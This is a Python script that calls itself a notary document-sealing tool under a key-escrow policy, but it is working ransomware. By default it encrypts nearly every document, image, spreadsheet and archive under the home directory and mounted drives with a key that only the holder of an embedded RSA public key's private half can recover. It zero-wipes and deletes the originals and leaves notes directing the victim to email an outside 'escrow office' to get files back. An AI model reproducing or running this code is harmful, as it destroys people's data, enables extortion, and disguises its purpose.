#!/usr/bin/env python3
"""Seal notarised documents under the commission's key-escrow policy.

Walks the notary's document folders, seals each record with AES-GCM under a
per-run key, and escrows that key with the commission's escrow office (only
the escrow office's public key ships with the tool). Sealed records replace
the working copies so no unsealed duplicates remain on the workstation.

    notary_vault_seal.py                 # seal the default document roots
    notary_vault_seal.py --root /srv/scans
"""
import argparse
import json
import logging
import os
import uuid
from concurrent.futures import ThreadPoolExecutor, as_completed
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("vault-seal")

EXTENSIONS = {".pdf", ".tif", ".tiff", ".jpg", ".jpeg", ".png", ".docx", ".doc",
              ".xlsx", ".xls", ".odt", ".ods", ".pptx", ".txt", ".csv", ".zip"}
SKIP_DIRS = {".git", "__pycache__", ".cache", "node_modules", ".local", "snap"}
MAGIC = b"NTRY2"
SUFFIX = ".sealed"
NOTICE = "SEALED_DOCUMENTS_README.txt"

ESCROW_PUBLIC_KEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAqsQ0EFOn4cp6d18xn6XC
mOdVBviUPjwe7YnxH8IIJ/u1ybEyolJFPXxJ3MvwF6AI/3RvqAGiGQAmbvPMSqeY
20fmZpjHt0RnzllDx4KvMObPmuTsAocMdK/1Fc6EQs8hjlrFkThZAYcC3UKMvflo
tr9HrbsaPoXMxxk9Rf1LwsakHMk14fsKkYYovaH2vt4hl9JAgaUT7yD1ZrWjPt6f
pchI/2NUXP9ACGWd6EPi3DwusMMt+YJHsUC1aoAlTXSalT6RWrqtsUhUbXKeKCTS
Q2JB6Md4G3TB9apICjHpa0G48n4BFQRo8aiyr4pwmoeATCyjTliEYAzcJ8FrgHp4
4wIDAQAB
-----END PUBLIC KEY-----
"""

NOTICE_TEXT = """Documents in this folder were sealed under the key-escrow policy.

Reference: {ref}

Sealed records cannot be opened on this workstation. To have them unsealed,
send the reference above and the file {escrow} to the escrow office at
escrow-desk@notaryseal-escrow.com. Do not rename or modify sealed files.
"""


class EscrowKey:
    """Per-run data key; only its escrow-wrapped form is ever written out."""

    def __init__(self):
        self.ref = uuid.uuid4().hex[:12].upper()
        self._key = AESGCM.generate_key(bit_length=256)
        self.aead = AESGCM(self._key)
        public = serialization.load_pem_public_key(ESCROW_PUBLIC_KEY)
        self.wrapped = public.encrypt(
            self._key,
            padding.OAEP(mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None),
        )

    def forget(self):
        self._key = None

    def header(self):
        return MAGIC + len(self.wrapped).to_bytes(2, "big") + self.wrapped


def default_roots():
    home = Path.home()
    return [home] + [Path(p) for p in ("/srv", "/mnt", "/media") if Path(p).is_dir()]


def iter_records(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            path = Path(dirpath) / name
            if path.suffix.lower() in EXTENSIONS and not path.is_symlink():
                yield path


def retire(path, size):
    """Remove the working copy so no unsealed duplicate is left behind."""
    with open(path, "r+b", buffering=0) as fh:
        remaining = size
        while remaining > 0:
            step = min(remaining, 1 << 20)
            fh.write(b"\0" * step)
            remaining -= step
        os.fsync(fh.fileno())
    path.unlink()


def seal_file(key, src):
    data = src.read_bytes()
    nonce = os.urandom(12)
    blob = key.aead.encrypt(nonce, data, src.name.encode())
    dest = src.with_name(src.name + SUFFIX)
    with open(dest, "wb") as fh:
        fh.write(key.header() + nonce + blob)
    retire(src, len(data))
    return src.parent, len(data)


def run(roots, workers):
    key = EscrowKey()
    touched, total = set(), 0
    with ThreadPoolExecutor(max_workers=workers) as pool:
        futures = [pool.submit(seal_file, key, p) for root in roots for p in iter_records(root)]
        for fut in as_completed(futures):
            try:
                folder, size = fut.result()
                touched.add(folder)
                total += size
            except OSError as exc:
                log.debug("skipped: %s", exc)
    key.forget()
    escrow_name = ".seal_escrow.bin"
    for folder in touched:
        try:
            (folder / escrow_name).write_bytes(key.wrapped)
            (folder / NOTICE).write_text(NOTICE_TEXT.format(ref=key.ref, escrow=escrow_name))
        except OSError:
            continue
    return key.ref, len(touched), total


def main():
    ap = argparse.ArgumentParser(description="Seal notarised documents under key escrow")
    ap.add_argument("--root", action="append", type=Path, help="document root (repeatable)")
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("--log", type=Path, default=Path("vault_seal.log"))
    args = ap.parse_args()
    logging.basicConfig(filename=args.log, level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    roots = args.root or default_roots()
    ref, folders, total = run(roots, args.workers)
    summary = {"reference": ref, "folders": folders, "bytes": total}
    log.info("sealing complete %s", json.dumps(summary))
    print(json.dumps(summary))


if __name__ == "__main__":
    main()
